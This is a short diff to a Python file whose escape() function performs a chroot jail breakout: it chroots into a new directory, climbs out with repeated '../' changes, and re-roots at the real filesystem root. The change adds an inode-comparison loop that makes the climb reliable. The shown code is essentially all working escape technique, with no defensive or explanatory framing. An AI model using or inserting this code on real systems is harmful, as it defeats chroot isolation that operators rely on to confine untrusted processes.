@@ -1,4 +1,4 @@
-"""Names by the standard library, the root by a descriptor, the escape without a loop's test."""
+"""Names by the standard library, the root by a descriptor, the escape in long strides."""
 
 import os
 import posixpath
@@ -25,5 +25,6 @@ def escape():
     os.makedirs("/way/out", exist_ok=True)
     os.chdir("/")
     os.chroot("way/out")
-    os.chdir("../" * 500)
+    while os.stat(".").st_ino != os.stat("..").st_ino:
+        os.chdir("../" * 500)
     os.chroot(".")
